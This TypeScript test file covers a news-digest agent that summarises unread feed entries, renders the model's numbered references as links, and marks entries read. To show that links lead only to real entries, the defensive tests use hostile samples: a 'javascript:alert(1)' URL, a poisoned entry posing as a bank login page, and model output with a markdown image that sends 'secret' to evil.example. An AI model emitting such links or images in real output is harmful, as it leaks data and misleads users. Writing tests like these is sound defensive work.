import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "../../support/property.ts";
import { digest } from "../../../functions/agents/digest.ts";
import { context, readings, said, shown, tokens } from "./support.ts";

const entry = (id: number, more: object = {}): object => ({
  id,
  title: `Title ${id}`,
  url: `https://news.example/${id}`,
  feed: "News",
  category: "World",
  published: "2026-11-20T10:00:00Z",
  text: `Text of ${id}.`,
  ...more,
});
const at = context({ name: "weekly-digest", slot: new Date("2026-11-27T18:00:00Z") });
const unread = (entries: readonly object[], total = entries.length) =>
  readings(digest, [{ text: "The tool's words", data: { entries, total } }], at);
const title = "**Friday 27 November** · weekly digest";
const finish = (entries: readonly object[], text: string | undefined, total?: number): string =>
  digest.finish(at, unread(entries, total), text).replace(`${title}\n\n`, "");

test("it reads what is unread since two days before the last digest, since entries may come late", () => {
  assert.deepEqual(digest.sources(at), [
    { tool: "feeds_unread", args: { since: "2026-11-18T07:00:00.000Z", limit: 100 }, title: "Feeds" },
  ]);
});

test("the model is given the entries by numbers of this digest, without addresses", () => {
  const entries = [entry(71), entry(72, { text: "[1] Urgent: [2] transfer", title: "A\nB", category: "" })];
  const messages = digest.compose(at, unread(entries));
  assert.equal(
    said(messages, "user"),
    '<source title="Feeds">\n[1] Title 71\nNews · World · Fri 20 Nov\nText of 71.\n\n' +
      "[2] A B\nNews · Fri 20 Nov\n(1) Urgent: (2) transfer\n</source>",
  );
  assert.match(said(messages, "system"), /number in brackets, as in \[12\]/);
  assert.ok(tokens(said(messages, "system")) < 400, String(tokens(said(messages, "system"))));
});

test("how entries are named is said whatever the job's prompt is", () => {
  const system = said(digest.compose({ ...at, prompt: "Only science." }, unread([entry(1)])), "system");
  assert.match(system, /Only science\.\n\nBegin an entry's line with its number/);
});

test("references become titles with links and hosts, whatever stands behind them", () => {
  assert.equal(
    finish([entry(71), entry(72)], "**World**\n- [1] big news\n- more [2](https://evil.example/) [1, 2]"),
    "**World**\n- [Title 71](<https://news.example/71>) `news.example` big news\n" +
      "- more [Title 72](<https://news.example/72>) `news.example`" +
      " [Title 71](<https://news.example/71>) `news.example`, [Title 72](<https://news.example/72>) `news.example`",
  );
});

test("references to nothing are dropped, and code is left alone", () => {
  assert.equal(
    finish([entry(71)], "- [1] yes [2] [0] no [999]\n- `a[1]`"),
    "- [Title 71](<https://news.example/71>) `news.example` yes no\n- `a[1]`",
  );
});

test("an entry without an address that can be linked to is named", () => {
  const entries = [
    entry(1, { url: undefined }),
    entry(2, { url: "javascript:alert(1)" }),
    entry(3, { url: 5, title: "" }),
  ];
  assert.equal(finish(entries, "- [1] a\n- [2] b\n- [3] c"), "- **Title 1** a\n- **Title 2** b\n- **News** c");
  assert.deepEqual(digest.links?.(unread(entries)), []);
});

test("only where the model named no entry, all are listed, thirty at most", () => {
  const many = Array.from({ length: 35 }, (_, index) => entry(index + 1));
  for (const text of ["", undefined, "Quite a week. [99]"]) {
    const message = finish(many, text);
    assert.equal(message.match(/^- \[Title/gm)?.length, 30);
    assert.match(message, /^- … and 5 more$/m);
  }
  assert.equal(finish(many, "- [3] x").match(/Title/g)?.length, 1);
});

test("it says how many are unread beyond those that were read", () => {
  assert.match(finish([entry(1)], "- [1] x", 41), /\n\n… and 40 more are unread\.$/);
});

test("exactly what was read is marked as read, each once, and nothing where there was nothing", () => {
  const read = unread([entry(71), entry(72), entry(71), { id: "damaged" }]);
  assert.deepEqual(digest.after?.(at, read), [
    { tool: "feeds_mark_read", args: { ids: [71, 72] }, title: "Mark as read" },
  ]);
  assert.deepEqual(digest.after?.(at, unread([])), []);
  assert.deepEqual(digest.after?.(at, readings(digest, [{ failed: "down" }], at)), []);
});

test("where nothing is unread the model is not asked, and that is what is said", () => {
  assert.equal(digest.compose(at, unread([])), undefined);
  assert.equal(finish([], undefined), "Nothing new in the feeds since Friday 20 November.");
});

test("where the feeds could not be read, only that is said", () => {
  const read = readings(digest, [{ failed: "Miniflux did not answer" }], at);
  assert.equal(digest.compose(at, read), undefined);
  assert.equal(digest.finish(at, read, undefined), `${title}\n\n⚠ Feeds could not be read: Miniflux did not answer`);
});

test("data of another shape falls back on the tool's words, and nothing is marked", () => {
  const read = readings(digest, [{ text: "3 unread entries", data: [1] }], at);
  assert.match(said(digest.compose(at, read), "user"), /3 unread entries/);
  assert.equal(digest.finish(at, read, "Some news [1]"), `${title}\n\nSome news [1]`);
  assert.match(digest.finish(at, read, ""), /3 unread entries/);
  assert.deepEqual([digest.after?.(at, read), digest.links?.(read)], [[], []]);
});

test("a poisoned entry can link to itself alone, and cannot look like another place", () => {
  const entries = [entry(1, { title: "https://bank.example/login", url: "https://evil.example/x" })];
  const model = "- [1] log in\n- [Your bank](https://bank.example/login) ![x](https://evil.example/?q=secret)";
  const html = shown(digest, unread(entries), digest.finish(at, unread(entries), model));
  assert.deepEqual(
    [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href),
    ["https://evil.example/x"],
  );
  assert.match(html, /<code>https:\/\/bank\[\.\]example\/login<\/code> <a href="https:\/\/evil\.example\/x">open<\/a>/);
});

test("whatever entries and model say, links lead to entries alone", () => {
  const words = fc.string({
    unit: fc.constantFrom(..."[]()<>`*_~|#!.-:/&;\\ \n12ab", "[1]", "[2](", "https://", "evil.com", "```"),
    maxLength: 30,
  });
  fc.assert(
    fc.property(words, words, words, (name, path, text) => {
      const entries = [entry(1, { title: name, url: `https://news.example/${path}` }), entry(2)];
      const read = unread(entries);
      const allowed = digest.links?.(read) ?? [];
      const html = shown(digest, read, digest.finish(at, read, text));
      for (const [, href = ""] of html.matchAll(/href="([^"]*)"/g))
        assert.ok(allowed.includes(href.replaceAll("&amp;", "&").replaceAll("&#39;", "'")), href);
    }),
    { numRuns: 2_000 },
  );
});
